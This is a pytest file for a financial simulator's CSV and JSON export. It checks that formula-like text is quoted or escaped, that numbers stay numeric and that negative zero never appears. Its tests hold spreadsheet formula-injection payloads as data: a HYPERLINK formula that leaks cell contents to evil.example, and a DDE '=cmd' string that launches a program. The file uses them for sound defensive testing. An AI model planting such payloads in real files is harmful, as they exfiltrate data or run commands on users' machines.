"""The quarterly CSV and the summary JSON: spreadsheet-safe text, numbers as numbers, no -0.0."""

from __future__ import annotations

import csv
import io
import json

import pytest

from simulator import load_preset, simulate
from simulator.export.cells import FORMULA_PREFIXES, csv_cell, formula_like, visible
from simulator.export.tables import csv_text, number, summary_dict, summary_json
from simulator.model.outputs import MODEL_COLUMNS

BASE = load_preset("base")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_that_starts_like_a_formula_gets_a_quote(prefix):
    text = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert formula_like(text)
    if prefix == "\r":  # shown as the escape \r, which no spreadsheet runs or splits on
        assert csv_cell(text) == "\\r" + text[1:]
    else:
        assert csv_cell(text) == "'" + text


def test_a_carriage_return_cannot_split_a_csv_row():
    s = BASE.with_field("program.categories.0.name", "a\rb\x01")
    rows = list(csv.reader(io.StringIO(csv_text(simulate(s)))))
    assert "capex:a\\rb\\x01" in rows[0] and {len(r) for r in rows} == {len(rows[0])}


@pytest.mark.parametrize("text", ["Servers", "capex:=1+1", " =1", "'quoted", "", "2025Q1"])
def test_other_text_is_unchanged(text):
    assert csv_cell(text) == text


def test_visible_escapes_control_characters_and_keeps_tabs_and_newlines():
    assert visible("a\x01b\x7f\x9f\ud800\uffff") == "a\\x01b\\x7f\\x9f\\ud800\\uffff"
    assert visible("tab\tline\n é 漢") == "tab\tline\n é 漢"
    assert visible("\rcarriage\r\n") == "\\rcarriage\\r\n"  # XML would make it a newline


def test_csv_numbers_stay_numbers_even_when_negative():
    rows = list(csv.reader(io.StringIO(csv_text(simulate(BASE)))))
    assert rows[0][: len(MODEL_COLUMNS) + 1] == ["period", *MODEL_COLUMNS]  # MODEL.md's contract
    fcf = [row[rows[0].index("fcf")] for row in rows[1:]]
    assert any(v.startswith("-") for v in fcf)
    assert all(float(v) == float(v) for v in fcf)  # no leading quote on any number


def test_a_category_name_cannot_become_a_formula():
    s = BASE.with_field("program.categories.0.name", "=cmd|' /C calc'!A0")
    header = next(csv.reader(io.StringIO(csv_text(simulate(s)))))
    assert "capex:=cmd|' /C calc'!A0" in header  # starts with 'capex:', so inert as it is
    assert not any(formula_like(h) for h in header)


def test_zero_capex_writes_no_negative_zero():
    result = simulate(BASE.with_field("program.total_capex", 0.0))
    text = summary_json(result)
    assert "-0.0" not in text and json.loads(text)["peak_funding"] == 0.0
    assert all(str(v) != "-0.0" for v in summary_dict(result).values())
    assert "-0.0" not in csv_text(result).replace("e-0", "e-")
    assert number(-0.0) == "0.0" and number(-1.5) == "-1.5"
